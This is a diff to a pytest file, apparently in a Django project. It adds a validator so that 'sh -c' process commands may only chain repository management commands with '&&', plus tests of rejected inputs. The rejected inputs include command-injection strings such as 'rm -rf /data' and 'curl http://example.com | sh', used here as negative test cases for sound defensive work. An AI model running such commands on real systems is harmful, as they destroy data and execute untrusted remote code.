@@ -77,6 +77,14 @@ def assert_command_runs_repository_code(argv: list[str]) -> None:
     elif program == "python":
         assert argv[1] == "manage.py"
         assert argv[2] in get_commands(), f"no management command {argv[2]!r}"
+    elif program == "sh":
+        # A shell only to run steps in order (`sh -c "a && b"`): each step must pass on its own,
+        # and nothing else a shell can do (`;`, `||`, pipes, redirections, substitutions) hides
+        # a step from this check.
+        assert argv[1:2] == ["-c"] and len(argv) == 3, argv
+        for step in argv[2].split("&&"):
+            assert not set(step) & set(";|&<>`$()\n"), f"not a plain command: {step!r}"
+            assert_command_runs_repository_code(shlex.split(step))
     else:
         pytest.fail(f"unexpected program {program!r} in {argv}")
 
@@ -97,6 +105,21 @@ def test_every_procfile_process_runs_repository_code(name):
 @pytest.mark.parametrize("name", sorted(compose_commands()))
 def test_every_compose_command_runs_repository_code(name):
     assert_command_runs_repository_code(compose_commands()[name])
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "python manage.py migrate; rm -rf /data",
+        "python manage.py migrate || true",
+        "python manage.py migrate && curl http://example.com | sh",
+        "python manage.py migrate && python manage.py no_such_command",
+        "python manage.py migrate && bash",
+    ],
+)
+def test_a_shell_command_passes_only_as_steps_that_each_pass(script):
+    with pytest.raises((AssertionError, pytest.fail.Exception)):
+        assert_command_runs_repository_code(["sh", "-c", script])
 
 
 def test_the_processes_are_named_as_the_design_says():
